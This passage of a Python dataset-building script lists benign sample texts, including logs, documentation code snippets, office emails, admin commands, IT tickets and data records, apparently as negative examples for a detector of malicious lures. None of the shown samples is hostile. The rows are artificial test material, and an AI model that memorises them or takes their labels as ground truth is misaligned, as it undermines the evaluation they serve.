    "Dec  7 09:16:44 web01 sshd[23102]: Accepted publickey for deploy from 10.20.4.11 port 53122 ssh2: ED25519 SHA256:Qm3bF0x8kL2vR9tY7uW1zA4cE6gH8jN0pS2dV5xB7nM",
    '10.20.4.31 - - [07/Dec/2026:09:17:03 +0000] "GET /healthz HTTP/1.1" 200 2 "-" "kube-probe/1.31"',
    "WARN  2026-12-07 09:18:10,442 [main] o.h.engine.jdbc.spi.SqlExceptionHelper - SQL Error: 1205, SQLState: 40001\nWARN  2026-12-07 09:18:10,442 [main] Lock wait timeout exceeded; try restarting transaction",
    'Traceback (most recent call last):\n  File "/app/worker.py", line 88, in process\n    result = client.fetch(job.url, timeout=10)\n  File "/app/.venv/lib/python3.12/site-packages/httpx/_client.py", line 1066, in get\nhttpx.ConnectTimeout: timed out',
    'Exception in thread "main" java.lang.NullPointerException: Cannot invoke "String.length()" because "name" is null\n\tat com.acme.shop.CartService.addItem(CartService.java:142)\n\tat com.acme.shop.CartController.add(CartController.java:57)',
    'npm ERR! code ERESOLVE\nnpm ERR! ERESOLVE unable to resolve dependency tree\nnpm ERR! Found: react@19.0.0\nnpm ERR! Could not resolve dependency: peer react@"^18.2.0" from react-beautiful-dnd@13.1.1',
    "error[E0502]: cannot borrow `self.items` as mutable because it is also borrowed as immutable\n  --> src/cart.rs:42:9",
    "Log Name: System\nSource: Microsoft-Windows-Kernel-Power\nEvent ID: 41\nLevel: Critical\nComputer: LT-FIN-0412.corp.local\nDescription: The system has rebooted without cleanly shutting down first. This error could be caused if the system stopped responding, crashed, or lost power unexpectedly.",
    "[2026-12-07 09:20:11] production.ERROR: SQLSTATE[HY000] [2002] Connection refused (Connection: mysql, SQL: select * from `users` where `id` = 17 limit 1)",
    'kubelet[1822]: E1207 09:21:33.104112 1822 pod_workers.go:1298] "Error syncing pod, skipping" err="failed to \\"StartContainer\\" for \\"api\\" with CrashLoopBackOff" pod="shop/api-6d8f7c9b54-qk2zt"',
    "#12 [build 5/7] RUN npm run build\n#12 41.22 > vite build\n#12 44.87 ✓ 1289 modules transformed.\n#12 46.01 dist/assets/index-4f2a1c.js   412.31 kB │ gzip: 128.77 kB",
    "Windows Defender: Threat blocked. Trojan:Win32/Wacatac.B!ml in C:\\Users\\maria\\Downloads\\crack_setup.exe. Action: Quarantined. Date: 07/12/2026 09:22",
    "fatal: unable to access 'https://github.com/acme-shop/storefront.git/': Could not resolve host: github.com",
    "Dec 07 09:23:40 nas01 smbd[3310]: [2026/12/07 09:23:40.112] ../../source3/smbd/service.c:1120(make_connection_snum) nas01 (ipv4:192.168.1.44:51832) connect to service photos initially as user jen",
    "2026-12-07 09:24:18 [W] TLS handshake failed with 198.51.100.23:443: certificate has expired (notAfter=2026-12-06 23:59:59 UTC)",
    "ORA-01017: invalid username/password; logon denied",
    "E: Could not get lock /var/lib/dpkg/lock-frontend. It is held by process 4121 (unattended-upgr)",
    "Build FAILED.\n\nC:\\src\\Shop\\Shop.Api\\Program.cs(23,13): error CS0246: The type or namespace name 'ILoggerFactroy' could not be found",
    "[ERROR] Failed to execute goal org.apache.maven.plugins:maven-surefire-plugin:3.2.5:test (default-test) on project billing: There are test failures.",
    "panic: runtime error: invalid memory address or nil pointer dereference\n[signal SIGSEGV: segmentation violation code=0x1 addr=0x0 pc=0x6b4c2d]\n\ngoroutine 1 [running]:\nmain.(*Server).handle(0x0, ...)\n\t/src/server.go:77",
]
LOG_PAGES = [
    "https://grafana.corp.example/explore",
    "https://console.cloud.google.com/logs/query",
    "https://gitlab.corp.example/shop/api/-/jobs/88123",
    "https://github.com/acme-shop/storefront/actions/runs/12210447",
    "https://kibana.corp.example/app/discover",
]
for i, text in enumerate(LOGS):
    ok("log", UNK, LOG_PAGES[i % len(LOG_PAGES)] if i % 4 else None, text)

CODE = [
    (
        "https://docs.python.org/3/library/pathlib.html",
        "from pathlib import Path\n\nfor p in Path('reports').glob('**/*.csv'):\n    print(p.name, p.stat().st_size)",
    ),
    (
        "https://docs.python.org/3/library/subprocess.html",
        "import subprocess\n\nresult = subprocess.run(['git', 'describe', '--tags', '--dirty'], capture_output=True, text=True, check=True)\nprint(result.stdout.strip())",
    ),
    (
        "https://www.python-httpx.org/quickstart/",
        "import httpx\n\nr = httpx.get('https://api.github.com/repos/encode/httpx', timeout=10)\nr.raise_for_status()\nprint(r.json()['stargazers_count'])",
    ),
    (
        "https://pandas.pydata.org/docs/user_guide/groupby.html",
        "df.groupby(['store_id', pd.Grouper(key='sold_at', freq='W')])['qty'].sum().reset_index()",
    ),
    (
        "https://fastapi.tiangolo.com/tutorial/first-steps/",
        "from fastapi import FastAPI\n\napp = FastAPI()\n\n@app.get('/invoices/{invoice_id}')\nasync def get_invoice(invoice_id: int, include_lines: bool = False):\n    return await repo.invoice(invoice_id, include_lines)",
    ),
    (
        "https://docs.djangoproject.com/en/5.1/topics/db/queries/",
        "Order.objects.filter(created__date=date.today(), status='paid').aggregate(total=Sum('amount'))",
    ),
    (
        "https://react.dev/reference/react/useEffect",
        "useEffect(() => {\n  const id = setInterval(() => setNow(Date.now()), 1000);\n  return () => clearInterval(id);\n}, []);",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/AbortController",
        "const controller = new AbortController();\nconst timer = setTimeout(() => controller.abort(), 5000);\nconst res = await fetch(url, { signal: controller.signal });\nclearTimeout(timer);",
    ),
    (
        "https://nodejs.org/api/fs.html",
        "import { readFile } from 'node:fs/promises';\n\nconst config = JSON.parse(await readFile(new URL('./config.json', import.meta.url), 'utf8'));",
    ),
    (
        "https://expressjs.com/en/starter/hello-world.html",
        "const express = require('express')\nconst app = express()\napp.use(express.json())\napp.post('/webhook', (req, res) => { queue.push(req.body); res.sendStatus(202) })\napp.listen(process.env.PORT || 8080)",
    ),
    (
        "https://go.dev/doc/tutorial/web-service-gin",
        "func getAlbums(c *gin.Context) {\n    c.IndentedJSON(http.StatusOK, albums)\n}",
    ),
    (
        "https://doc.rust-lang.org/book/ch09-02-recoverable-errors-with-result.html",
        "fn load_config(path: &Path) -> Result<Config, Box<dyn Error>> {\n    let text = fs::read_to_string(path)?;\n    Ok(toml::from_str(&text)?)\n}",
    ),
    (
        "https://learn.microsoft.com/en-us/dotnet/csharp/asynchronous-programming/",
        'var client = new HttpClient();\nvar json = await client.GetStringAsync("https://api.example.org/v1/status");\nConsole.WriteLine(json);',
    ),
    (
        "https://docs.oracle.com/javase/tutorial/essential/io/file.html",
        'List<String> lines = Files.readAllLines(Path.of("input.txt"), StandardCharsets.UTF_8);\nlines.stream().filter(l -> !l.isBlank()).forEach(System.out::println);',
    ),
    (
        "https://www.php.net/manual/en/pdo.prepared-statements.php",
        "$stmt = $pdo->prepare('SELECT * FROM users WHERE email = ?');\n$stmt->execute([$email]);\n$user = $stmt->fetch();",
    ),
    (
        "https://ruby-doc.org/3.3/Enumerable.html",
        "orders.group_by(&:customer_id).transform_values { |os| os.sum(&:total) }",
    ),
    (
        "https://kotlinlang.org/docs/coroutines-basics.html",
        "fun main() = runBlocking {\n    val jobs = urls.map { async(Dispatchers.IO) { fetch(it) } }\n    println(jobs.awaitAll().sumOf { it.length })\n}",
    ),
    (
        "https://developer.apple.com/documentation/swiftui/list",
        'List(items) { item in\n    Text(item.title)\n}\n.navigationTitle("Inbox")',
    ),
    (
        "https://www.gnu.org/software/bash/manual/bash.html",
        '#!/usr/bin/env bash\nset -euo pipefail\n\nfor host in web01 web02 web03; do\n  ssh "$host" \'sudo systemctl restart app\' && echo "$host ok"\ndone',
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/scripting/learn/deep-dives/everything-about-hashtable",
        "$config = @{\n    Environment = 'staging'\n    Replicas    = 3\n    Features    = @('search', 'export')\n}\n$config.GetEnumerator() | Sort-Object Name",
    ),
    (
        "https://docs.pytest.org/en/stable/how-to/fixtures.html",
        "@pytest.fixture\ndef client(tmp_path):\n    app = create_app({'TESTING': True, 'DATABASE': tmp_path / 'shop.db'})\n    with app.test_client() as c:\n        yield c",
    ),
    (
        "https://vuejs.org/guide/essentials/computed.html",
        "const fullName = computed(() => `${firstName.value} ${lastName.value}`)",
    ),
    (
        "https://www.typescriptlang.org/docs/handbook/2/narrowing.html",
        "function format(v: string | number): string {\n  return typeof v === 'number' ? v.toFixed(2) : v.trim();\n}",
    ),
    (
        "https://docs.sqlalchemy.org/en/20/orm/quickstart.html",
        "with Session(engine) as session:\n    stmt = select(User).where(User.name.in_(['spongebob', 'sandy']))\n    for user in session.scalars(stmt):\n        print(user)",
    ),
    (
        "https://numpy.org/doc/stable/user/basics.broadcasting.html",
        "a = np.arange(12).reshape(3, 4)\nprint(a.mean(axis=0), a.std(axis=1))",
    ),
    (
        "https://stackoverflow.com/questions/79260018/debounce-in-javascript",
        "function debounce(fn, ms) {\n  let t;\n  return (...args) => { clearTimeout(t); t = setTimeout(() => fn(...args), ms); };\n}",
    ),
    (
        "https://stackoverflow.com/questions/79261144/python-retry-decorator",
        "def retry(times=3, delay=1.0):\n    def wrap(fn):\n        def inner(*a, **kw):\n            for i in range(times):\n                try:\n                    return fn(*a, **kw)\n                except Exception:\n                    if i == times - 1:\n                        raise\n                    time.sleep(delay)\n        return inner\n    return wrap",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/CSS/CSS_grid_layout",
        ".gallery {\n  display: grid;\n  grid-template-columns: repeat(auto-fill, minmax(220px, 1fr));\n  gap: 1rem;\n}",
    ),
    (
        "https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/store-information-in-variables",
        'echo "VERSION=$(git describe --tags --always)" >> "$GITHUB_ENV"',
    ),
    (
        "https://learn.microsoft.com/en-us/office/vba/api/excel.range.autofilter",
        'Sub FilterOpen()\n    Worksheets("Orders").Range("A1").AutoFilter Field:=5, Criteria1:="Open"\nEnd Sub',
    ),
    (
        "https://support.google.com/docs/answer/3093318",
        "=QUERY(A1:F200, \"select B, sum(F) where C = 'EMEA' group by B order by sum(F) desc\", 1)",
    ),
    (
        "https://support.microsoft.com/en-us/office/xlookup-function",
        '=XLOOKUP(E2, Products[SKU], Products[Price], "not found")',
    ),
    (
        "https://www.regular-expressions.info/email.html",
        "^[A-Za-z0-9._%+-]+@[A-Za-z0-9.-]+\\.[A-Za-z]{2,}$",
    ),
    (
        "https://docs.python.org/3/library/logging.html",
        "logging.basicConfig(level=logging.INFO, format='%(asctime)s %(levelname)s %(name)s: %(message)s')",
    ),
    (
        "https://learn.microsoft.com/en-us/dotnet/api/system.diagnostics.process.start",
        'Process.Start(new ProcessStartInfo("https://docs.example.org") { UseShellExecute = true });',
    ),
    (
        "https://docs.python.org/3/library/base64.html",
        "import base64\n\ntoken = base64.urlsafe_b64encode(b'user:42').decode()\nprint(token, base64.urlsafe_b64decode(token))",
    ),
]
for page, text in CODE:
    ok("code", UNK, page, text)

OFFICE = [
    "Hi all,\n\nPlease find attached the agenda for Thursday's quarterly review. We'll start with the sales figures (Anna), then the product roadmap (Ben) and close with Q&A.\n\nBest regards,\nClaire",
    "Action items from today's call:\n- Tom: send revised quote to Müller GmbH by Wed\n- Priya: update the onboarding deck\n- Everyone: review the new travel policy",
    "Dear Mr. Okafor,\n\nThank you for your application for the position of Data Analyst. We would like to invite you to an interview on 14 January at 10:00 at our Leeds office.\n\nKind regards,\nHR Team",
    "Invoice INV-2026-1187\nDate: 07.12.2026\nAmount due: 2,480.00 EUR\nPayment terms: 30 days net\nIBAN: DE89 3704 0044 0532 0130 00",
    "Out of office: I am on annual leave until 2 January with limited access to email. For urgent matters please contact Jonas Richter (jonas.richter@example.org).",
    "Meeting notes 2026-12-07\nAttendees: KL, MB, SR\n1. Budget 2027 approved with minor changes\n2. Office move postponed to March\n3. Next meeting: 21 Dec",
    "Please sign and return the attached NDA by Friday. You can sign it electronically through the DocuSign link in the original email from legal@acme.example.",
    "Shipping address:\nAcme Logistics BV\nAttn: Receiving Dock 3\nHavenstraat 112\n3011 AB Rotterdam\nNetherlands",
    "Reminder: The office will be closed on 24–26 December and 31 December–1 January. Happy holidays!",
    "Hi Jen, could you book the large meeting room for the workshop on the 16th, 9-5, with catering for 12 people? Thanks!",
    "Sehr geehrte Frau Schneider,\n\nanbei erhalten Sie das Angebot Nr. 2026-447 für die Wartung Ihrer Klimaanlage. Das Angebot ist 30 Tage gültig.\n\nMit freundlichen Grüßen\nKlaus Wagner",
    "Objet : Compte rendu de la réunion du 5 décembre\n\nBonjour à tous,\nVous trouverez ci-joint le compte rendu. Merci de me faire part de vos remarques avant vendredi.\n\nCordialement,\nSophie",
    "Estimado cliente:\nLe informamos que su pedido 77120 ha sido enviado. Número de seguimiento: 1Z999AA10123456784.\nGracias por su compra.",
    "Travel itinerary\nFlight LH 1234 MUC → LIS, 18 Dec 07:10–09:25\nHotel: Lisboa Centro, 3 nights\nBooking ref: QX7P2L",
    "Q4 targets: revenue +8% YoY, churn below 2.5%, NPS above 45. Owners per metric are in the attached sheet.",
    "Reference letter: Ms. Ana Costa worked with us as a project coordinator from March 2022 to November 2026. She was reliable, organized and well liked by clients and colleagues.",
    "Hi Marco, the contract renewal is on my desk — I'll have it signed by legal tomorrow and send you the PDF.",
    "Password policy update: from 1 January passwords must be at least 14 characters. You'll be prompted to change yours at next sign-in. Use the company password manager.",
    "Customer feedback summary (Nov): 312 responses, 4.4/5 average. Top complaint: delivery times in the north region. Top praise: support response speed.",
    "Dear Sir or Madam, I am writing to dispute the charge of €89.00 on my statement dated 1 December (reference 55102) as the service was cancelled on 15 November. Please find the cancellation confirmation attached.",
    "Proposta: spostare la riunione settimanale al martedì alle 9:30, così chi lavora da remoto il lunedì può partecipare.",
    "Beste Jan, hierbij de offerte voor de nieuwe laptops (12 stuks). Levertijd is ongeveer twee weken na akkoord.",
    "Onboarding checklist for new joiners:\n☐ Laptop and badge\n☐ Accounts (email, Slack, Jira)\n☐ Security training\n☐ Meet your buddy",
    "Budget request: 2 additional licences for the design tool (€45/month each) for the marketing interns from January to June.",
    "Lease renewal notice: your lease for Unit 4B expires on 31 March 2027. Please let us know by 31 January whether you intend to renew.",
    "Happy Friday everyone! Drinks at 5 in the kitchen to celebrate the launch. 🍕🍻",
    "Subject: Timesheet approval\nHi Mark, I submitted my timesheet for weeks 48–49. Could you approve it before payroll closes on Tuesday? Thanks, Lena",
    "The quarterly board pack is now in SharePoint under Board > 2026 > Q4. Please don't forward it outside the board distribution list.",
    "Quote for the kitchen renovation: materials £6,200, labour £4,800, VAT £2,200, total £13,200. Work can start in February.",
    "Ricevuta n. 2026/0912 – Importo pagato: 150,00 € – Causale: quota associativa 2027",
    "Hello neighbours, the building's hot water will be off on Wednesday 9–12 for the boiler service. Sorry for the inconvenience! – Building management",
    "Dear parents, the school Christmas concert is on 17 December at 18:00 in the main hall. Doors open at 17:30.",
    "Project status: GREEN. Milestone 3 (data migration) completed on time. Risks: vendor API deprecation in Q2 — mitigation plan in progress.",
    "Recipe: Lentil soup – 1 onion, 2 carrots, 200 g red lentils, 1 l stock, cumin, lemon. Simmer 25 minutes and blend.",
    "Tracking number 00340434161094012345 – expected delivery Tuesday",
    "Please use the new cost centre 4410-MKT for all marketing expenses from 1 January.",
]
for i, text in enumerate(OFFICE):
    ok(
        "office",
        "other" if i % 2 else UNK,
        ["https://outlook.office.com/mail/inbox", "https://mail.google.com/mail/u/0/", None][i % 3],
        text,
    )

MAC_LINUX_ADMIN = [
    ("https://docs.brew.sh/Manpage#services-subcommand", "brew services restart postgresql@17"),
    ("https://ss64.com/mac/launchctl.html", "launchctl list | grep -i dropbox"),
    (
        "https://support.apple.com/guide/deployment/depc0aadd3fe/web",
        "sudo profiles status -type enrollment",
    ),
    (
        "https://ss64.com/mac/networksetup.html",
        "networksetup -getinfo Wi-Fi && networksetup -getdnsservers Wi-Fi",
    ),
    (
        "https://ss64.com/mac/dscacheutil.html",
        "scutil --get LocalHostName && scutil --get ComputerName",
    ),
    ("https://ss64.com/mac/tmutil.html", "tmutil listbackups | tail -3"),
    ("https://ss64.com/mac/spctl.html", "spctl --status"),
    (
        "https://ss64.com/mac/codesign.html",
        "codesign --verify --deep --strict --verbose=2 /Applications/Obsidian.app",
    ),
    ("https://ss64.com/mac/caffeinate.html", "caffeinate -dimsu -t 7200"),
    (
        "https://wiki.archlinux.org/title/NetworkManager",
        "nmcli device wifi connect 'Office-5G' password 'correct horse battery staple'",
    ),
    (
        "https://www.freedesktop.org/software/systemd/man/latest/timedatectl.html",
        "sudo timedatectl set-timezone Europe/Amsterdam",
    ),
    ("https://wiki.archlinux.org/title/Users_and_groups", "sudo usermod -aG dialout,plugdev $USER"),
    (
        "https://www.cyberciti.biz/faq/howto-linux-unix-change-setuid-setgid-permissions/",
        "sudo chown -R www-data:www-data /var/www/shop && sudo chmod -R 750 /var/www/shop",
    ),
    (
        "https://linuxize.com/post/how-to-add-swap-space-on-ubuntu-22-04/",
        "free -h && swapon --show",
    ),
    ("https://linuxize.com/post/lsblk-command-in-linux/", "lsblk -f"),
    (
        "https://linuxize.com/post/how-to-mount-cifs-windows-share-on-linux/",
        "sudo mount -t cifs //nas01/backup /mnt/backup -o credentials=/root/.smbcred,vers=3.0",
    ),
    ("https://docs.fail2ban.org/", "sudo fail2ban-client set sshd unbanip 203.0.113.77"),
    (
        "https://www.digitalocean.com/community/tutorials/how-to-use-logrotate",
        "sudo logrotate -d /etc/logrotate.d/nginx",
    ),
    (
        "https://wiki.ubuntu.com/UnattendedUpgrades",
        "grep -h 'Packages that will be upgraded' /var/log/unattended-upgrades/unattended-upgrades.log | tail -3",
    ),
    ("https://docs.zfsonlinux.org/", "zpool status -x && zfs list -o name,used,avail,mountpoint"),
]
for page, text in MAC_LINUX_ADMIN:
    ok("admin-unix", TERM, page, text)

TICKETS = [
    "INC0048812 – User cannot print to FIN-PRN-03. Printer shows 'offline' in Windows; pinging 10.30.2.51 works. Restarted spooler, re-added queue. Resolved.",
    "REQ0021190 – New starter (Lena Hoffmann, Marketing) needs laptop, M365 E3 licence, Adobe CC, access to \\\\fs01\\Marketing. Start date 5 Jan.",
    "CHG0007731 – Patch SQL cluster SQL01/SQL02 to CU16. Window Sat 22:00–02:00. Rollback: uninstall CU via Programs and Features. Approved by CAB 2026-12-04.",
    "Problem PRB0001204: Outlook hangs on start for users with large shared mailboxes. Workaround: disable 'Download shared folders' in cached mode settings.",
    "Ticket #55102: Customer reports double charge on order 77120. Refund of €42.90 issued via Stripe, ref re_3QaB12xYz. Customer informed by email.",
    "INC0049020 – VPN client error 809 for home users on one ISP. Workaround: switch the profile to IKEv2/443. Vendor case opened.",
    "Change request: add 'no-reply@mailer.acme.example' to the allowed senders list in the mail gateway for the new newsletter tool. Requested by Marketing.",
    "HR-3310: please remove access for leaver Peter Novak (last day 30 Nov): AD account disable, mailbox convert to shared, licence removal, badge deactivation.",
    "INC0049211 – Teams calls drop after 10 minutes on Wi-Fi in meeting room 3.2. AP firmware updated, issue not reproduced since. Monitoring for a week.",
    "Known error KE-118: Excel add-in 'FinReport' crashes with Office 2408. Fix: update add-in to 3.4.1 from the software center.",
    "INC0049377 – Laptop fan loud and hot. Disk at 100% from Windows Search indexing after migration. Rebuilt index; normal after 2 h.",
    "REQ0021305 – Please install Python 3.12 and VS Code on DEV-LT-0412 for the data team intern. Approved by team lead.",
]
for i, text in enumerate(TICKETS):
    ok(
        "it-ticket",
        UNK,
        "https://servicenow.corp.example/now/nav/ui/classic/params/target/incident_list.do"
        if i % 2
        else None,
        text,
    )

DATA = [
    "id,name,email,country,created_at\n101,Anna Berg,anna.berg@example.org,SE,2026-11-02\n102,Luis Ortega,l.ortega@example.org,ES,2026-11-05",
    '{"order_id": 77120, "items": [{"sku": "TS-RED-M", "qty": 2, "price": 19.95}], "shipping": {"method": "express", "country": "DE"}}',
    "date;description;amount\n2026-12-01;Rent;-1250,00\n2026-12-02;Salary;3400,00\n2026-12-03;Groceries;-84,37",
    '<?xml version="1.0" encoding="UTF-8"?>\n<invoice number="INV-2026-1187">\n  <customer id="C-441">Acme Logistics BV</customer>\n  <total currency="EUR">2480.00</total>\n</invoice>',
    "BEGIN:VEVENT\nDTSTART:20261216T090000Z\nDTEND:20261216T170000Z\nSUMMARY:Design workshop\nLOCATION:Room 4.01\nEND:VEVENT",
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK3pQ8mZ2vW7xR1tY9uB4nC6dE8fG0hJ2kL4mN6pQ8rS maria@laptop-2026",
    "-----BEGIN CERTIFICATE REQUEST-----\nMIICvDCCAaQCAQAwdzELMAkGA1UEBhMCREUxDzANBgNVBAgMBkJlcmxpbjEPMA0G\nA1UEBwwGQmVybGluMRMwEQYDVQQKDApBY21lIFNob3AxEzARBgNVBAMMCnNob3Au\n-----END CERTIFICATE REQUEST-----",
    "name: Weekly report\nschedule: every Monday 08:00\nrecipients:\n  - leads@example.org\nquery: sales_by_region_last_week",
    "| Region | Q3 | Q4 |\n|--------|----|----|\n| EMEA   | 1.2M | 1.4M |\n| APAC   | 0.8M | 0.9M |",
    "GET /api/v1/orders?status=open&page=2 HTTP/1.1\nHost: api.shop.example.org\nAuthorization: Bearer <token>\nAccept: application/json",
    "BTC price alert: 1 BTC = 92,410 USD (+2.1% 24h)",
    "Wi-Fi: Office-Guest\nPassword: Welcome2026!\nValid until 31.12.2026",
    "Flight LH1234 boarding pass: seat 14C, gate G22, boarding 06:40",
    "IBAN: GB33 BUKB 2020 1555 5555 55\nBIC: BUKBGB22\nReference: INV-2026-1187",
    "192.168.10.0/24 gateway 192.168.10.1 dns 192.168.10.2,192.168.10.3 vlan 110",
]
for i, text in enumerate(DATA):
    ok("data", UNK, None if i % 2 else "https://docs.google.com/document/d/1xYz/edit", text)

README_SNIPPETS = [
    (
        "https://github.com/pallets/flask",
        "## Installation\n\nInstall and update from PyPI:\n\n    $ pip install -U Flask",
    ),
    (
        "https://github.com/psf/black",
        "## Usage\n\nTo get started right away with sensible defaults:\n\n    black {source_file_or_directory}",
    ),
    (
        "https://github.com/sharkdp/bat",
        "bat README.md\nbat src/*.rs\ncurl -s https://sh.rustup.rs | bat",
    ),
    ("https://github.com/BurntSushi/ripgrep", "rg -tpy 'def main' --stats"),
    ("https://github.com/junegunn/fzf", "vim $(fzf --preview 'bat --color=always {}')"),
    ("https://github.com/tldr-pages/tldr", "tldr tar"),
    ("https://github.com/httpie/cli", "http PUT pie.dev/put X-API-Token:123 name=John"),
    ("https://github.com/cli/cli", "gh issue list --label bug --state open --limit 20"),
    ("https://github.com/jesseduffield/lazygit", "lazygit -p ~/repos/storefront"),
    ("https://github.com/ajeetdsouza/zoxide", 'eval "$(zoxide init zsh)"'),
]
for page, text in README_SNIPPETS:
    ok("readme-usage", TERM, page, text)


def benign_rows() -> list[dict[str, str]]:
    return kit.benign_rows(PREFIX, B)


if __name__ == "__main__":
    kit.main(PREFIX, L, B, LURES_OUT, BENIGN_OUT)
